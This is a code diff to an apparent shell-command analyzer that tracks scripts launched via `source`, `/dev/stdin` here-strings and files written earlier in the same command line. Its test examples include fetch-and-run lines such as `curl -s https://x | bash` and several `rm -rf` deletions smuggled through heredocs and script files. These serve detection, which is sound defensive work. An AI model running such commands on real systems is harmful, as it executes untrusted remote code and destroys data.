@@ -35,7 +35,11 @@ function shell(call: Launch): number | null {
   }
   if (src.kind === "script") {
     const p = call.procSub(words[src.index]);
-    if (!p) return call.emit();
+    if (!p) {
+      const out = call.emit();
+      call.runFile(words[src.index], { sameScope: false });
+      return out;
+    }
     if (p.literal === null) {
       call.gap(GAP_SHAPE.INTERPRETER_STDIN, `${name} runs a script from a process substitution that is not a literal`);
       return call.emit();
@@ -102,13 +106,25 @@ function evalScript(call: Launch): number | null {
   return call.inline(lits.join(" "), { inheritStdin: true, sameScope: true });
 }
 
-/** `source <(…)` / `. <(…)`: a script from a process substitution, run in this shell. */
+/** Paths that name the shell's own stdin. */
+const STDIN_FILES = new Set(["/dev/stdin", "/proc/self/fd/0", "/dev/fd/0"]);
+
+/** `source <(…)` / `. <(…)` / `. /dev/stdin <<< …` / a file the text wrote: a script run in this shell. */
 function source(call: Launch): number | null {
-  const p = call.procSub(call.words[call.i + 1]);
+  const operand = call.words[call.i + 1];
+  const p = call.procSub(operand);
   if (!p) {
+    if (operand && !operand.dynamic && STDIN_FILES.has(operand.value)) {
+      // `. /dev/stdin <<< '…'`: the script is what stdin carries.
+      const text = call.stdinText();
+      if (text !== null) return call.inline(text, { inheritStdin: false, sameScope: true });
+      if (call.stdin !== null) call.gap(GAP_SHAPE.INTERPRETER_STDIN, `${call.name} runs a script from a ${call.stdin.kind} that is not a literal`);
+    }
+    const out = call.emit();
+    if (call.runFile(operand, { sameScope: true })) return out;
     // A script file runs in this shell: any variable may hold anything after it.
     if (call.words.length > call.i + 1) call.scope.vars.forgetAll();
-    return call.emit();
+    return out;
   }
   if (p.literal === null) {
     call.gap(GAP_SHAPE.INTERPRETER_STDIN, `${call.name} runs a script from a process substitution that is not a literal`);
@@ -189,6 +205,8 @@ export const SHELL_ROWS: readonly LauncherRow[] = [
       ['bash -c "$X"', ["bash -c $X"], [3]],
       ["curl -s https://x | bash", ["curl -s https://x", "bash"], [7]],
       ["bash /dev/stdin <<< 'rm -rf /tmp/x'", ["bash>rm -rf /tmp/x"]],
+      ["echo 'rm -rf /tmp/x' > /tmp/x.sh && bash /tmp/x.sh", ["echo rm -rf /tmp/x", "bash /tmp/x.sh", "bash>rm -rf /tmp/x"]],
+      ["cat > c.sh <<'EOF'\nrm -rf /tmp/x\nEOF\nsh ./c.sh", ["cat", "sh ./c.sh", "sh>rm -rf /tmp/x"]],
     ],
   },
   {
@@ -211,7 +229,12 @@ export const SHELL_ROWS: readonly LauncherRow[] = [
     names: ["source", "."],
     runs: "a `<(…)` script in this shell (a script file is the effect table's)",
     launch: source,
-    examples: [["source <(echo 'rm -rf /tmp/x')", ["echo rm -rf /tmp/x", "source>rm -rf /tmp/x"]]],
+    examples: [
+      ["source <(echo 'rm -rf /tmp/x')", ["echo rm -rf /tmp/x", "source>rm -rf /tmp/x"]],
+      [". /dev/stdin <<< 'rm -rf /tmp/x'", [".>rm -rf /tmp/x"]],
+      ["echo 'rm -rf /tmp/x' > e.sh; . ./e.sh", ["echo rm -rf /tmp/x", ". ./e.sh", ".>rm -rf /tmp/x"]],
+      ["curl -s https://x > e.sh; source e.sh", ["curl -s https://x", "source e.sh"], [3]],
+    ],
   },
   {
     names: ["cmd"],
